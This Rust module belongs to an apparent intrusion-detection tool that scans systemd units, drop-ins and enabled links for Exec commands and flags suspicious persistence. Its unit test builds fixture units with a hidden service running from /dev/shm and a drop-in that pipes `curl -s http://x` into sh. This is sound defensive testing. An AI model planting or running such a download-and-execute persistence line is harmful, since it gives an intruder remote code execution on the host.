//! systemd units that the administrator (or an intruder) added: the `Exec*=` lines of the
//! units in `/etc/systemd/system`, of their drop-ins (`NAME.d/*.conf`), and of the units
//! enabled there (`*.wants/`, `*.requires/` links, wherever they point in the tree).
//! Package units elsewhere are not read unless enabled that way.

use std::collections::HashSet;

use super::{
    finding::Findings,
    persistence::{Launch, Point, script_lines},
    root::Root,
};

const UNIT_DIR: &str = "/etc/systemd/system";

/// Keys whose value is a command line.
const EXEC_KEYS: &[&str] = &[
    "ExecStart",
    "ExecStartPre",
    "ExecStartPost",
    "ExecReload",
    "ExecStop",
    "ExecStopPost",
    "ExecCondition",
];

/// The commands of every unit and drop-in, each file read once.
pub fn scan(root: &Root, out: &mut Findings) -> Vec<Launch> {
    let mut files = root.files_in(UNIT_DIR, out);
    for dir in root.dirs_in(UNIT_DIR, out) {
        let drop_ins = dir.ends_with(".d");
        let links = dir.ends_with(".wants") || dir.ends_with(".requires");
        if drop_ins || links {
            files.extend(
                root.files_in(&dir, out)
                    .into_iter()
                    .filter(|file| !drop_ins || file.ends_with(".conf")),
            );
        }
    }
    let mut seen = HashSet::new();
    let mut launches = Vec::new();
    for file in files {
        if !seen.insert(
            root.path(&file)
                .canonicalize()
                .unwrap_or_else(|_| root.path(&file)),
        ) {
            continue;
        }
        let Some(text) = root.read(&file, out) else {
            continue;
        };
        for (line, setting) in script_lines(&text) {
            if let Some(command) = exec_command(&setting) {
                launches.push(Launch::new(Point::Systemd, &file, line, &setting, command));
            }
        }
    }
    launches
}

/// The command of an `Exec*=` setting, without systemd's prefixes (`-`, `@`, `+`, `!`,
/// `:`); `None` for other settings and for empty values (which reset the list).
fn exec_command(setting: &str) -> Option<&str> {
    let (key, value) = setting.split_once('=')?;
    if !EXEC_KEYS.contains(&key.trim()) {
        return None;
    }
    let command = value
        .trim()
        .trim_start_matches(['-', '@', '+', '!', ':', '|']);
    (!command.is_empty()).then_some(command)
}

#[cfg(test)]
mod tests {
    use std::{fs, os::unix::fs::symlink};

    use super::*;

    #[test]
    fn exec_lines_of_units_drop_ins_and_enabled_links_are_read() {
        let tree = tempfile::tempdir().unwrap();
        let dir = tree.path();
        let system = dir.join("etc/systemd/system");
        fs::create_dir_all(system.join("multi-user.target.wants")).unwrap();
        fs::create_dir_all(system.join("nginx.service.d")).unwrap();
        fs::create_dir_all(dir.join("usr/lib/systemd/system")).unwrap();
        fs::write(
            system.join("dbus-helper.service"),
            "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/dev/shm/.dbus/dbus-helper\nRestart=always\n",
        )
        .unwrap();
        fs::write(
            system.join("nginx.service.d/override.conf"),
            "[Service]\nExecStartPre=-/bin/sh -c 'curl -s http://x | sh'\nExecStart=\n",
        )
        .unwrap();
        fs::write(
            dir.join("usr/lib/systemd/system/x.service"),
            "[Service]\nExecStart=/usr/bin/x\n",
        )
        .unwrap();
        symlink(
            "/usr/lib/systemd/system/x.service",
            system.join("multi-user.target.wants/x.service"),
        )
        .unwrap();
        // Enabled twice: read once.
        symlink(
            "/etc/systemd/system/dbus-helper.service",
            system.join("multi-user.target.wants/dbus-helper.service"),
        )
        .unwrap();
        // Masked: a link to /dev/null, which is no file in the tree.
        symlink("/dev/null", system.join("bluetooth.service")).unwrap();
        let root = Root::open(dir).unwrap();
        let mut out = Findings::default();
        let launches = scan(&root, &mut out);
        let read: Vec<String> = launches.iter().map(Launch::evidence).collect();
        assert_eq!(
            read,
            [
                "/etc/systemd/system/dbus-helper.service:4: ExecStart=/dev/shm/.dbus/dbus-helper",
                "/etc/systemd/system/multi-user.target.wants/x.service:2: ExecStart=/usr/bin/x",
                "/etc/systemd/system/nginx.service.d/override.conf:2: ExecStartPre=-/bin/sh -c 'curl -s http://x | sh'",
            ]
        );
        let ids: Vec<String> = launches
            .iter()
            .filter_map(Launch::finding)
            .map(|f| f.id)
            .collect();
        assert_eq!(ids, ["systemd-temp-exec", "systemd-download-exec"]);
        assert!(out.found.is_empty());
    }
}
